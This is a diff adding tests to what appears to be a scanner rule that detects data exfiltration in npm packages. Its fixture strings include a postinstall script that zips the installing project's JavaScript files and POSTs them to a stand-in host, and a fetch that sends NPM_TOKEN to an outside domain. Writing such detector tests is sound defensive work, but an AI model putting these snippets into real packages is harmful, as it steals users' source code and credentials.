@@ -547,3 +547,18 @@ test('what went into one part of an object is not in another one, where both are
   for (const code of [sent('o.a.b'), sent('o.a'), sent('o'), sent('o.a[name]'), sent('o.a.b.length')]) assert.equal(severity(code), 'critical', code);
   for (const put of ['o.a[name] = process.env', 'o.a.push(process.env)', 'o.a.c.d = process.env']) assert.equal(findingsOf(rule, { 'a.js': `const o = make(); ${put};\n${sent('o.a.c')}` })[0]?.severity, 'critical', put);
 });
+
+test('something is handed to a server when the package is installed', () => {
+  const severities = (text: string, scripts = { postinstall: 'node a.js' }) => findingsOf(rule, { 'a.js': text }, { original: { scripts } }).map(({ severity }) => severity);
+  const zip = 'const pack = require("archiver")("zip"); const r = require("https").request("https://up.example/p", { method: "POST" }); pack.pipe(r); pack.glob("**/*.js", { cwd: process.env.INIT_CWD }); pack.finalize();';
+  assert.deepEqual(severities(zip), ['high']);
+  assert.deepEqual(severities(zip, { test: 'node a.js' } as never), []);
+  assert.deepEqual(severities('require("https").get("https://dl.example/a.tar.gz", (r) => r.pipe(out))'), []);
+  assert.deepEqual(severities('fetch("http://localhost:9000/x", { method: "POST", body: pack() })'), []);
+});
+
+test('a name in a text is the text that it is given', () => {
+  const worstOf = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
+  assert.equal(worstOf('const base = `https://${"stats"}.example/${version}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'high');
+  assert.equal(worstOf('const base = `https://npm.pkg.github.com/${name}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'nothing');
+});
